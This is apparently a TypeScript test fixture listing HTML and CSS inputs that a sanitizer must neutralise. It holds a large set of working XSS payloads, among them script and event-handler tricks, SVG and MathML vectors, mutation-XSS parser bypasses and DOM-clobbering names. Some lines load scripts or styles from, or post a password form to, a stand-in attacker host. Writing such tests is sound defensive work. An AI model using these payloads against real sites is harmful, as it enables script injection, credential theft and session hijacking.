import { scriptAddresses } from './scriptAddresses.ts'

// HTML that must not do anything, by what it tries. Each calls `__pwn` if it runs.

const handlers = [
  ...['onload', 'onerror', 'onclick', 'onfocus', 'onblur', 'onmouseover', 'onpointerenter', 'ontoggle'],
  ...[
    'onanimationstart',
    'ontransitionend',
    'onbeforetoggle',
    'onscrollend',
    'oncontentvisibilityautostatechange',
  ],
  ...['ONCLICK', 'onauxclick', 'onwheel', 'onpaste', 'oncut', 'onkeydown'],
]

const handlerPayloads = handlers.flatMap((handler) => [
  `<p ${handler}="__pwn(1)" tabindex="1" autofocus>a</p>`,
  `<a href="https://example.com" ${handler}=__pwn(1)>a</a>`,
  `<img src="x" ${handler}="__pwn(1)">`,
  `<strong/${handler}='__pwn(1)'>a</strong>`,
])

const linkPayloads = scriptAddresses.flatMap((address) => {
  const href = address.replaceAll('"', '&quot;').replaceAll('<', '&lt;')
  return [`<p><a href="${href}">link</a></p>`, `<a href="${href}" target="_blank" rel="opener">link</a>`]
})

const scripts = [
  '<script>__pwn(1)</script>',
  '<SCRIPT>__pwn(1)</SCRIPT>',
  '<script src="https://evil.example/x.js"></script>',
  '<script>__pwn(1)',
  '<scr<script>ipt>__pwn(1)</scr</script>ipt>',
  '<<script>__pwn(1)//<</script>',
  '<script\n>__pwn(1)</script\n>',
  '<script/x>__pwn(1)</script>',
  '<p>a<script type="module">__pwn(1)</script>b</p>',
  '<noscript><p title="</noscript><img src=x onerror=__pwn(1)>"></noscript>',
  '<template><script>__pwn(1)</script></template>',
  '<template shadowrootmode="open"><img src=x onerror=__pwn(1)></template>',
  '<div><template shadowrootmode="open" shadowrootclonable><script>__pwn(1)</script></template></div>',
]

const foreign = [
  '<svg onload=__pwn(1)>',
  '<svg/onload=__pwn(1)>',
  '<svg><script>__pwn(1)</script></svg>',
  '<svg><script href="data:,__pwn(1)"></script></svg>',
  '<svg><a xlink:href="javascript:__pwn(1)"><text y="20">x</text></a></svg>',
  '<svg><animate onbegin=__pwn(1) attributeName=x dur=1s></svg>',
  '<svg><set attributeName="href" to="javascript:__pwn(1)"></svg>',
  '<svg><a><animate attributeName=href values=javascript:__pwn(1) /><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=__pwn(1)>#x"></use></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>__pwn(1)</script>"></iframe></foreignObject></svg>',
  '<svg><style>{font-family:"<img/src=x onerror=__pwn(1)>"}</style></svg>',
  '<svg><title><img src=x onerror=__pwn(1)></title></svg>',
  '<svg><desc><p onclick=__pwn(1)>x</p></desc></svg>',
  '<svg><image href="https://evil.example/x.png"></svg>',
  '<math href="javascript:__pwn(1)">x</math>',
  '<math><mtext><img src=x onerror=__pwn(1)></mtext></math>',
  '<math><mi xlink:href="javascript:__pwn(1)">x</mi></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:__pwn(1)">x</maction></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=__pwn(1)></annotation-xml></math>',
]

/** Markup that changes its meaning when it is parsed a second time. */
const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__pwn(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__pwn(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=__pwn(1)>">',
  '<math><mtext><mglyph><style><![CDATA[</style><img src=x onerror=__pwn(1)>]]></style></mglyph></mtext></math>',
  '<svg><p><style><a title="</style><img src onerror=__pwn(1)>"></style></p></svg>',
  '<noembed><p title="</noembed><img src=x onerror=__pwn(1)>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=__pwn(1)>"></noframes>',
  '<xmp><p title="</xmp><img src=x onerror=__pwn(1)>"></xmp>',
  '<iframe><p title="</iframe><img src=x onerror=__pwn(1)>"></iframe>',
  '<textarea><p title="</textarea><img src=x onerror=__pwn(1)>"></textarea>',
  '<title><p title="</title><img src=x onerror=__pwn(1)>"></title>',
  '<style><p title="</style><img src=x onerror=__pwn(1)>"></style>',
  '<plaintext><img src=x onerror=__pwn(1)>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=__pwn(1)>">',
  '<table><caption><svg><desc><table><caption></caption></table></desc><style><a id="</style><img src onerror=__pwn(1)>"></style></svg>',
  '<!--><img src=x onerror=__pwn(1)>-->',
  '<!--!><img src=x onerror=__pwn(1)>-->',
  '<!-- --!><img src=x onerror=__pwn(1)> -->',
  '<![CDATA[<img src=x onerror=__pwn(1)>]]>',
  '<?xml-stylesheet href="javascript:__pwn(1)"?>',
  '<? <img src=x onerror=__pwn(1)> ?>',
  '</ <img src=x onerror=__pwn(1)>>',
  '<p title="--><img src=x onerror=__pwn(1)>">a</p>',
  '<p lang="</style><img src=x onerror=__pwn(1)>">a</p>',
  '<p class="`&quot;><img src=x onerror=__pwn(1)>">a</p>',
  `${'<div>'.repeat(300)}<img src=x onerror=__pwn(1)>${'</div>'.repeat(300)}`,
  `${'<svg><p>'.repeat(60)}<style><a id="</style><img src onerror=__pwn(1)>">`,
]

const styles = [
  'position:fixed;inset:0;z-index:9999',
  'background:url(https://evil.example/x)',
  "background:url('javascript:__pwn(1)')",
  'width:expression(__pwn(1))',
  '-moz-binding:url(https://evil.example/x.xml#x)',
  'behavior:url(x.htc)',
  'text-align:center;position:fixed;inset:0',
  'text-align:center!important',
  'text-align:expression(__pwn(1))',
  'text-align:url(https://evil.example/)',
  'text-align:center\\;position:fixed',
  'text-align:/*;position:fixed;*/center',
  'color:red;text-align:right',
  'font-size:900px',
  '--x:1;text-align:var(--x)',
  'animation:x 1s;content:"text-align:center',
  'list-style-image:url(https://evil.example/)',
  'cursor:url(https://evil.example/),auto',
  'display:none',
  'opacity:0;text-align:left;margin:-9999px',
]

const containers = [
  '<style>*{display:none}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="preload" as="image" href="https://evil.example/x.png">',
  '<meta http-equiv="refresh" content="0;url=javascript:__pwn(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe src="javascript:__pwn(1)"></iframe>',
  '<iframe srcdoc="<script>parent.__pwn(1)</script>"></iframe>',
  '<object data="javascript:__pwn(1)"></object>',
  '<object type="text/html" data="data:text/html,<script>__pwn(1)</script>"></object>',
  '<embed src="javascript:__pwn(1)">',
  '<applet code="x"></applet>',
  '<frameset onload=__pwn(1)><frame src="javascript:__pwn(1)"></frameset>',
  '<body onload=__pwn(1)>',
  '<html onmouseover=__pwn(1)>',
  '<video src=x onerror=__pwn(1)></video>',
  '<video><source onerror=__pwn(1)></video>',
  '<audio src=x onerror=__pwn(1) autoplay></audio>',
  '<img src="https://evil.example/x.png">',
  '<img srcset="https://evil.example/x.png 1x" src=x onerror=__pwn(1)>',
  '<picture><source srcset="https://evil.example/x.png"><img src=x onerror=__pwn(1)></picture>',
  '<img src=x:x onerror=&#95;&#95;pwn(1)>',
  '<IMG """><SCRIPT>__pwn(1)</SCRIPT>">',
  '<input type="image" src=x onerror=__pwn(1)>',
  '<marquee onstart=__pwn(1)>x</marquee>',
  '<details open ontoggle=__pwn(1)>x</details>',
  '<dialog open onclose=__pwn(1)>x</dialog>',
  '<div popover id=x onbeforetoggle=__pwn(1)>x</div><button popovertarget=x>y</button>',
  '<isindex action="javascript:__pwn(1)" type=image>',
  '<table background="javascript:__pwn(1)"><tr><td>a</td></tr></table>',
  '<custom-element onclick=__pwn(1)>a</custom-element>',
  '<p is="custom-p" onclick=__pwn(1)>a</p>',
  '<slot name=x onslotchange=__pwn(1)>a</slot>',
  '<canvas onclick=__pwn(1)></canvas>',
  '<map name=x><area href="javascript:__pwn(1)" shape=default></map><img usemap="#x" src=x>',
  '<a ping="https://evil.example/" href="https://example.com">a</a>',
  '<a download="x.exe" href="https://example.com">a</a>',
  '<a href="https://example.com" target="_top">a</a>',
  '<a href="https://example.com" target="x" rel="OPENER">a</a>',
  '<a href="https://example.com" target=_blank rel="opener nofollow opener">a</a>',
  '<blockquote cite="javascript:__pwn(1)">a</blockquote>',
  '<del cite="javascript:__pwn(1)" datetime="x">a</del>',
]

const forms = [
  '<form action="https://evil.example"><input name=password type=password><button>go</button></form>',
  '<form action="javascript:__pwn(1)"><input type=submit></form>',
  '<button formaction="javascript:__pwn(1)" type=submit>a</button>',
  '<input autofocus onfocus=__pwn(1)>',
  '<select autofocus onfocus=__pwn(1)><option>a</option></select>',
  '<textarea autofocus onfocus=__pwn(1)>a</textarea>',
  '<keygen autofocus onfocus=__pwn(1)>',
  '<form id=attributes><input name=childNodes></form>',
  '<form><input name=nodeName><input name=removeChild></form>',
  '<label for="root">a</label>',
  '<output name="x">a</output>',
  '<p contenteditable="true" oninput=__pwn(1)>a</p>',
]

/** Names that would stand in the way of the page's own. */
const names = [
  '<p id="root">a</p>',
  '<a id="location" href="https://example.com">a</a>',
  '<a name="document" href="https://example.com">a</a>',
  '<div id="__proto__">a</div>',
  '<div id="defaultView"><a id="defaultView" name="x" href="https://example.com">a</a></div>',
  '<p data-testid="x" data-href="javascript:__pwn(1)">a</p>',
  '<p aria-label="x" role="dialog">a</p>',
  '<p slot="x" part="y" itemid="z">a</p>',
  '<p accesskey="s" tabindex="1">a</p>',
  '<p hidden inert>a</p>',
  '<p draggable="true" nonce="x">a</p>',
  '<span data-pm-slice="0 0 [&quot;paragraph&quot;,{&quot;textAlign&quot;:&quot;center;position:fixed&quot;}]">a</span>',
]

export const payloads: readonly string[] = [
  ...scripts,
  ...handlerPayloads,
  ...linkPayloads,
  ...foreign,
  ...mutations,
  ...styles.map((style) => `<p style="${style.replaceAll('"', '&quot;')}">a</p>`),
  ...containers,
  ...forms,
  ...names,
]
